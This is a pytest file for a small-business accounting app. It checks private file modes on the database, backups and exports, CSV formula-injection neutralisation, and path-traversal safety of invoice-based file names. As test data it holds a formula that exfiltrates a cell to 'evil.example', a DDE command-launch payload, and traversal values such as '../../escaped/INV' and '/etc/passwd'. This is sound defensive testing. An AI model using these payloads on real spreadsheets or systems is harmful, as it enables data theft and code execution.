"""Files smallbiz writes: the book, its WAL and shared-memory files, backups and every
export holding the book's data are readable by the owner only (0600) even under a
permissive umask; CSV exports are safe to open in a spreadsheet; a file name built
from data (an invoice number) never leads outside the folder it is meant for.
"""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import stat
import subprocess
from pathlib import Path

import pytest

from smallbiz.crm import contacts_csv
from smallbiz.crm.service import Channel, ContactData
from tests import engine
from tests.conftest import make_runner
from tests.engine import on_postgresql
from tests.reliability.conftest import CHILD_ENV, PYTHON, ROOT


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def open_umask():
    """A umask that lets group and others read and write new files (the worst case)."""
    old = os.umask(0o000)
    yield
    os.umask(old)


@pytest.mark.sqlite_only("file modes of the book file and its -wal and -shm")
def test_book_wal_and_shm_are_private(tmp_path: Path) -> None:
    path = tmp_path / "new.db"
    env = {**CHILD_ENV}
    code = ("import os, sys; os.umask(0); from smallbiz.cli.main import app; "
            "app(sys.argv[1:], prog_name='smallbiz')")
    for args in (["init", "--company", "Private Co"],
                 ["journal", "add", "--date", "2026-03-01", "--posting", "1010=5",
                  "--posting", "3000"]):
        r = subprocess.run([PYTHON, "-c", code, "--db", str(path), *args], cwd=ROOT, env=env,
                           capture_output=True, text=True, timeout=60)
        assert r.returncode == 0, r.stderr
    assert mode(path) == 0o600
    # While a connection is open and has written, the WAL and shared-memory files exist.
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA journal_mode=WAL")
    conn.execute("INSERT INTO setting (key, value) VALUES ('probe', 'x')")
    conn.commit()
    try:
        for suffix in ("-wal", "-shm"):
            side = Path(str(path) + suffix)
            assert side.exists(), suffix
            assert mode(side) == 0o600, (suffix, oct(mode(side)))
    finally:
        conn.execute("DELETE FROM setting WHERE key = 'probe'")
        conn.commit()
        conn.close()


def test_backups_and_exports_are_private(shop_path: Path, tmp_path: Path, open_umask) -> None:
    run = make_runner(shop_path)
    out = tmp_path / "out"
    out.mkdir()
    written = {} if on_postgresql() else {  # backup copies SQLite files
        "backup.db": ["backup", str(out / "backup.db")]}
    written |= {
        "journal.journal": ["export", "journal", str(out / "journal.journal")],
        "contacts.csv": ["export", "contacts", str(out / "contacts.csv")],
        "contacts.vcf": ["export", "contacts", str(out / "contacts.vcf")],
        "invoice.pdf": ["invoice", "pdf", "INV-2026-0001", "-o", str(out / "invoice.pdf")],
    }
    for name, args in written.items():
        r = run(*args)
        assert r.exit_code == 0, (args, r.stderr)
        assert mode(out / name) == 0o600, (name, oct(mode(out / name)))
    # replacing an existing, readable file keeps the result private too
    (out / "again.journal").write_text("old")
    os.chmod(out / "again.journal", 0o644)
    assert run("export", "journal", str(out / "again.journal"), "--force").exit_code == 0
    assert mode(out / "again.journal") == 0o600
    assert sorted(p.name for p in out.iterdir()) == sorted([*written, "again.journal"])


DANGEROUS = ["=1+1", "+1-2", "-2+3", "@SUM(A1:A2)", "\tTab", "\rReturn",
             '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0"]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
    contacts = [ContactData(name=text, notes=text, city=text, street=text,
                            emails=(Channel("ok@example.ge"),), phones=(Channel(text),))
                for text in DANGEROUS]
    buffer = io.StringIO()
    contacts_csv.write(contacts, buffer)
    for row in list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)
    # and an import of the export gives the original text back
    records, _ignored = contacts_csv.parse(buffer.getvalue())
    assert [r.data.name for r in records] == DANGEROUS
    assert [r.data.notes for r in records] == DANGEROUS


def test_exported_contacts_csv_from_the_book_is_neutralised(shop_cli, tmp_path: Path) -> None:
    for name, extra in (("=HYPERLINK(\"http://evil\",\"x\")", []),
                        ("@Nino", ["--notes", "-1+1"]),
                        ("+995 Person", ["--city", "=A1"])):
        r = shop_cli("contact", "add", name, *extra)
        assert r.exit_code == 0, r.stderr
    target = tmp_path / "contacts.csv"
    assert shop_cli("export", "contacts", str(target)).exit_code == 0
    with target.open(newline="", encoding="utf-8") as fh:
        cells = [cell for row in list(csv.reader(fh))[1:] for cell in row]
    assert any(c.startswith("'=") for c in cells) and any(c.startswith("'@") for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_an_invoice_number_never_leads_outside_the_folder(shop_path: Path, tmp_path: Path
                                                          ) -> None:
    """`invoice pdf NUMBER` names the file after the number. A book whose data says
    '../../x' (edited outside smallbiz, or from someone else) still writes in the
    current folder."""
    engine.execute(shop_path, "UPDATE invoice SET number = '../../escaped/INV' "
                              "WHERE number = 'INV-2026-0001'")
    invoice_id = engine.scalar(shop_path, "SELECT id FROM invoice "
                                          "WHERE number = '../../escaped/INV'")
    work = tmp_path / "a" / "b" / "work"
    work.mkdir(parents=True)
    (tmp_path / "a" / "escaped").mkdir()
    r = subprocess.run([PYTHON, "-m", "smallbiz", "--db", str(shop_path), "invoice", "pdf",
                        str(invoice_id)], cwd=work, env={**CHILD_ENV}, capture_output=True,
                       text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    written = Path(r.stdout.strip())
    assert (work / written).resolve().parent == work.resolve(), written
    assert list((tmp_path / "a" / "escaped").iterdir()) == []
    assert [p.name for p in work.iterdir()] == [written.name]


def test_the_tui_proposes_a_pdf_path_inside_the_current_folder() -> None:
    """The TUI's 'Export as PDF' form proposes a file named after the invoice number."""
    from smallbiz.screens.invoices import ask_pdf

    pushed = []

    class App:
        book = None

        def push_screen(self, screen, callback=None):
            pushed.append(screen)

    class Screen:
        app = App()

    for number in ("INV-2026-0001", "../../escaped/INV", "/etc/passwd"):
        pushed.clear()
        ask_pdf(Screen(), number)
        proposed = Path(pushed[0].fields[0].value)
        assert proposed.parent == Path.cwd(), proposed
        assert proposed.name.endswith(".pdf") and "/" not in proposed.name
    assert Path(pushed[0].fields[0].value).name == "_etc_passwd.pdf"
